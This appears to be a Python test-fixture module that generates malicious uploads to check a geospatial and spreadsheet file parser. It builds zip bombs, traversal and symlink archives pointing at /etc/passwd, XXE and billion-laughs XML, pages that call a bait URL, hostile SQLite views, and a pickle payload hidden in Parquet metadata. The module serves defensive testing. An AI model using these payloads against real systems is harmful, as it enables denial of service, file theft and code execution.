"""Files made to do harm, each built on the spot: name for people, bytes, and what is allowed."""

from __future__ import annotations

import io
import json
import pickle
import sqlite3
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

import geopandas as gpd
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import shapely

from .hostile_parts import MEGABYTE, SHAPES, TABLE, Bait, Hostile, workbook, zipped
from .hostile_texts import polyglots, rasters, texts


def laughs(root: str) -> bytes:
    """Ten entities, each ten of the one before: a gigabyte of one letter."""
    lines = ['<!ENTITY a0 "aaaaaaaaaa">']
    lines += [f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 9)]
    return f'<?xml version="1.0"?><!DOCTYPE x [{"".join(lines)}]>{root}'.encode()


def reads_file(root: str, bait: Bait) -> bytes:
    doctype = f'<!DOCTYPE x [<!ENTITY a8 SYSTEM "{bait.secret.as_uri()}">]>'
    return f'<?xml version="1.0"?>{doctype}{root}'.encode()


def calls_out(root: str, bait: Bait) -> bytes:
    doctype = f'<!DOCTYPE x SYSTEM "{bait.url}/x.dtd" [<!ENTITY % p SYSTEM "{bait.url}/p"> %p;]>'
    return f'<?xml version="1.0"?>{doctype}{root}'.encode()


KML = (
    '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&a8;</name><Polygon>'
    "<outerBoundaryIs><LinearRing><coordinates>4,8 5,8 5,9 4,8</coordinates></LinearRing>"
    "</outerBoundaryIs></Polygon></Placemark></Document></kml>"
)
SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>&a8;</t></is></c></row></sheetData></worksheet>'
)
SPREADSHEET_XML = (
    '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"'
    ' xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="a"><Table><Row>'
    '<Cell><Data ss:Type="String">&a8;</Data></Cell></Row></Table></Worksheet></Workbook>'
)
PLAIN_KML = KML.replace("&a8;", "Apado")


def archives() -> Iterator[tuple[str, Hostile]]:
    """Bombs, traversal, links, archives in archives."""
    yield (
        "zip bomb",
        Hostile("w.zip", zipped(("w.csv", bytes(40 * MEGABYTE))), frozenset({"zip_bomb"})),
    )
    many = [(f"{i}.csv", b"a,b\n" * 500_000) for i in range(3)]
    yield "bomb in many files", Hostile("w.zip", zipped(*many), frozenset({"zip_bomb"}))
    yield (
        "bomb in a workbook",
        Hostile("w.xlsx", workbook(sheet=bytes(60 * MEGABYTE)), frozenset({"zip_bomb"})),
    )
    inner = zipped(("w.csv", TABLE))
    for _ in range(5):
        inner = zipped(("inner.zip", inner), ("w.csv", TABLE))
    yield "nested", Hostile("w.zip", inner, frozenset({"zip_nested"}))
    for name in ("../../w.csv", "/etc/cron.d/w.csv", "..\\..\\w.csv", "C:\\w.csv"):
        data = zipped((name, TABLE))
        yield f"path {name}", Hostile("w.zip", data, frozenset({"zip_unsafe_path"}))
    link = zipfile.ZipInfo("w.csv")
    link.external_attr = 0o120777 << 16
    yield "symlink", Hostile("w.zip", zipped((link, b"/etc/passwd")), frozenset({"zip_symlink"}))
    crowd = zipped(*[(f"{i}.csv", b"") for i in range(1200)])
    yield "crowd", Hostile("w.zip", crowd, frozenset({"zip_too_many_entries"}))
    yield (
        "overlapping entries",
        Hostile("w.zip", overlapping(), frozenset({"zip_bomb", "damaged_zip", "zip_too_large"})),
    )
    data = bytearray(zipped(("w.csv", bytes(30 * MEGABYTE))))
    for at in (data.find(b"PK\x03\x04") + 22, data.find(b"PK\x01\x02") + 24):
        data[at : at + 4] = struct.pack("<I", 1000)
    yield (
        "false size",
        Hostile("w.zip", bytes(data), frozenset({"zip_bomb", "damaged_zip", "empty_file"})),
    )


def overlapping() -> bytes:
    """A hundred names for one compressed megabyte: each is small, together they are not."""
    data = bytearray(zipped(("a.csv", b"a,b\n" * 4_000_000)))
    start, end = data.find(b"PK\x01\x02"), data.find(b"PK\x05\x06")
    directory = bytes(data[start:end])
    names = [
        directory.replace(b"a.csv", b"%05d" % i).replace(b"00000", b"a.csv") for i in range(100)
    ]
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 100, 100, 100 * len(directory), start, 0)
    return bytes(data[:start]) + b"".join(names) + tail


def markup(bait: Bait) -> Iterator[tuple[str, Hostile]]:
    """Entities that grow, read files or call out, in everything that is XML."""
    refused = frozenset({"xml_entities", "damaged_xml", "zip_without_data", "unsupported_format"})
    for what, make in (("laughs", laughs), ("file", reads_file), ("call", calls_out)):
        arguments = () if make is laughs else (bait,)
        kml = make(KML, *arguments)
        yield f"kml {what}", Hostile("w.kml", kml, refused)
        yield f"kmz {what}", Hostile("w.kmz", zipped(("doc.kml", kml)), refused)
        beside = zipped(("doc.kml", kml), ("w.geojson", geojson()))
        yield f"kml {what} beside geojson", Hostile("w.zip", beside)
        sixteen = kml.decode().replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")
        yield f"kml {what} in UTF-16", Hostile("w.kml", sixteen, refused)
        sheet = workbook(sheet=make(SHEET, *arguments))
        yield f"xlsx {what}", Hostile("w.xlsx", sheet, frozenset({"xml_entities"}))
        strings = workbook(strings=make("<sst><si><t>&a8;</t></si></sst>", *arguments))
        yield f"xlsx strings {what}", Hostile("w.xlsx", strings, frozenset({"xml_entities"}))
        xml = make(SPREADSHEET_XML, *arguments)
        yield f"spreadsheet xml {what}", Hostile("w.xls", xml, refused)
    deep = "<Folder>" * 100_000
    yield "deep kml", Hostile("w.kml", PLAIN_KML.replace("<Placemark>", deep).encode(), refused)
    links = f"<NetworkLink><Link><href>{bait.url}/n</href></Link></NetworkLink><Placemark>"
    yield "kml with links", Hostile("w.kml", PLAIN_KML.replace("<Placemark>", links, 1).encode())
    page = f"""<html><head><meta http-equiv=refresh content="0;{bait.url}"><link rel=stylesheet
      href="{bait.url}/c"></head><body onload="fetch('{bait.url}')"><script src="{bait.url}/s">
      </script><img src="{bait.url}/i"><table><tr><th>WardName<th>tpr<tr><td>Apado<td>1
      <tr><td><script>alert(1)</script>Marafa<td>2</table></body></html>"""
    yield "web page", Hostile("w.xls", page.encode())


def geojson(**more: object) -> bytes:
    features = [
        {
            "type": "Feature",
            "properties": {"WardName": name},
            "geometry": json.loads(shapely.to_geojson(shape)),
        }
        for name, shape in zip(("Apado", "Marafa", "Zango"), SHAPES, strict=True)
    ]
    return json.dumps({"type": "FeatureCollection", "features": features, **more}).encode()


def json_files(bait: Bait) -> Iterator[tuple[str, Hostile]]:
    """JSON that is too deep, has too long numbers, or names a coordinate system elsewhere."""
    start = b'{"type":"FeatureCollection","features":'
    for name, data in (
        ("deep list", start + b"[" * 2_000_000),
        ("deep object", start + b'{"a":' * 500_000),
        ("closed deep list", start + b"[" * 200_000 + b"]" * 200_000 + b"}"),
        ("long number", geojson().replace(b"4.0", b"4" * 2_000_000, 1)),
        ("infinite number", geojson().replace(b"4.0", b"1e999999", 1)),
    ):
        yield name, Hostile("w.geojson", data)
        yield f"{name} in a zip", Hostile("w.zip", zipped(("w.geojson", data)))
    crs = {"type": "link", "properties": {"href": f"{bait.url}/crs", "type": "ogcwkt"}}
    yield "crs by link", Hostile("w.geojson", geojson(crs=crs))
    named = {"type": "name", "properties": {"name": f"{bait.url}/crs"}}
    yield "crs by address", Hostile("w.geojson", geojson(crs=named))


def vectors(bait: Bait, folder: Path) -> Iterator[tuple[str, Hostile]]:
    """Virtual data sources, shapefiles and databases that point elsewhere or lie."""
    refused = frozenset({"unsupported_format", "zip_without_data"})
    source = f"<SrcDataSource>/vsicurl/{bait.url}/w.shp</SrcDataSource><SrcLayer>w</SrcLayer>"
    vrt = f'<OGRVRTDataSource><OGRVRTLayer name="w">{source}</OGRVRTLayer></OGRVRTDataSource>'
    band = f"<SourceFilename>/vsicurl/{bait.url}/w.tif</SourceFilename><SourceBand>1</SourceBand>"
    raster = (
        '<VRTDataset rasterXSize="9" rasterYSize="9"><VRTRasterBand dataType="Byte" band="1">'
        f"<SimpleSource>{band}</SimpleSource></VRTRasterBand></VRTDataset>"
    )
    for name, text in (("vector vrt", vrt), ("raster vrt", raster)):
        yield name, Hostile("w.shp", text.encode(), refused)
        yield f"{name} in a zip", Hostile("w.zip", zipped(("w.vrt", text.encode())), refused)
    yield from shapefiles(vrt, bait, folder)
    yield from databases(bait, folder)


def shapefiles(vrt: str, bait: Bait, folder: Path) -> Iterator[tuple[str, Hostile]]:
    frame = gpd.GeoDataFrame({"WardName": ["Apado", "Marafa", "Zango"]}, geometry=SHAPES, crs=4326)
    frame.to_file(folder / "w.shp", engine="pyogrio")
    parts = {path.suffix: path.read_bytes() for path in sorted(folder.glob("w.*"))}

    def with_part(**changed: bytes) -> bytes:
        new = {**parts, **{f".{key}": data for key, data in changed.items()}}
        return zipped(*[(f"w{suffix}", data) for suffix, data in new.items()])

    yield (
        "vrt named shp",
        Hostile("w.zip", with_part(shp=vrt.encode()), frozenset({"damaged_shapefile"})),
    )
    for name, text in (("address", bait.url), ("file", f"/vsicurl/{bait.url}/w.prj")):
        yield f"prj with {name}", Hostile("w.zip", with_part(prj=text.encode()))
    shp = bytearray(parts[".shp"])
    shp[24:28] = struct.pack(">i", 2**31 - 1)
    at = 100 + 8 + 4 + 32
    shp[at : at + 8] = struct.pack("<ii", 2**31 - 1, 2**31 - 1)
    yield "false counts in shp", Hostile("w.zip", with_part(shp=bytes(shp)))
    dbf = bytearray(parts[".dbf"])
    dbf[4:8] = struct.pack("<I", 2**32 - 1)
    yield "false count in dbf", Hostile("w.zip", with_part(dbf=bytes(dbf)))


def databases(bait: Bait, folder: Path) -> Iterator[tuple[str, Hostile]]:
    frame = gpd.GeoDataFrame({"WardName": ["Apado", "Marafa", "Zango"]}, geometry=SHAPES, crs=4326)
    endless = "WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) SELECT x AS fid, "
    views = {
        "endless view": f"CREATE VIEW v AS {endless} (SELECT geom FROM w LIMIT 1) AS geom FROM r",
        "huge view": "CREATE VIEW v AS SELECT fid, zeroblob(900000000) AS geom FROM w",
        "view that loads code": "CREATE VIEW v AS SELECT load_extension('x') AS fid, geom FROM w",
        "view of another file": f"CREATE VIRTUAL TABLE v USING VirtualOGR('{bait.secret}')",
    }
    for name, statement in views.items():
        path = folder / f"{name.replace(' ', '-')}.gpkg"
        frame.to_file(path, layer="w", engine="pyogrio", driver="GPKG")
        with sqlite3.connect(path) as base:
            triggers = "SELECT name FROM sqlite_master WHERE type = 'trigger'"
            for (trigger,) in base.execute(triggers).fetchall():
                base.execute(f'DROP TRIGGER "{trigger}"')
            if "VIRTUAL" in statement:
                base.execute("PRAGMA writable_schema = 1")
                base.execute(
                    "INSERT INTO sqlite_master VALUES ('table', 'v', 'v', 0, ?)", [statement]
                )
            else:
                base.execute(statement)
            base.execute("UPDATE gpkg_contents SET table_name = 'v', identifier = 'v'")
            base.execute("UPDATE gpkg_geometry_columns SET table_name = 'v'")
        base.close()
        yield name, Hostile("w.gpkg", path.read_bytes())


class Payload:
    """Unpickled, it makes a file."""

    def __init__(self, trap: Path) -> None:
        self.trap = trap

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return (open, (str(self.trap), "w"))


def parquet(table: pa.Table, **options: object) -> bytes:
    memory = io.BytesIO()
    pq.write_table(table, memory, **options)
    return memory.getvalue()


def columns(bait: Bait) -> Iterator[tuple[str, Hostile]]:
    """Parquet with code in its metadata, and with little data that grows."""
    table = pa.table({"WardName": ["Apado", "Marafa", "Zango"], "tpr": [1.0, 2.0, 3.0]})
    harm = pickle.dumps(Payload(bait.trap))
    yield (
        "pickle in metadata",
        Hostile(
            "w.parquet", parquet(table.replace_schema_metadata({"pandas": harm, "pickle": harm}))
        ),
    )
    kind = {
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": harm,
    }
    field = pa.field("WardName", pa.string(), metadata=kind)
    schema = pa.schema([field, pa.field("tpr", pa.float64())])
    yield "pickle as a type", Hostile("w.parquet", parquet(table.cast(schema)))
    for name, geo in (
        ("address as crs", {"primary_column": "tpr", "columns": {"tpr": {"crs": bait.url}}}),
        ("no geometry", {"version": "9", "primary_column": "WardName", "columns": {}}),
    ):
        marked = table.replace_schema_metadata({"geo": json.dumps(geo)})
        yield f"geoparquet {name}", Hostile("w.parquet", parquet(marked))
    long = pa.DictionaryArray.from_arrays(np.zeros(4000, np.int32), pa.array(["x" * MEGABYTE]))
    grown = pa.table({"WardName": long})
    grows = parquet(grown, compression="zstd")
    yield "parquet that grows", Hostile("w.parquet", grows, frozenset({"file_too_heavy"}))


def corpus(bait: Bait, folder: Path) -> dict[str, Iterator[tuple[str, Hostile]]]:
    """The groups, each making its files when they are asked for."""
    return {
        "archives": archives(),
        "markup": markup(bait),
        "json": json_files(bait),
        "vectors": vectors(bait, folder),
        "parquet": columns(bait),
        "rasters": rasters(),
        "texts": texts(),
        "two in one": polyglots(),
    }


GROUPS = tuple(corpus(Bait("", Path(), Path()), Path()))
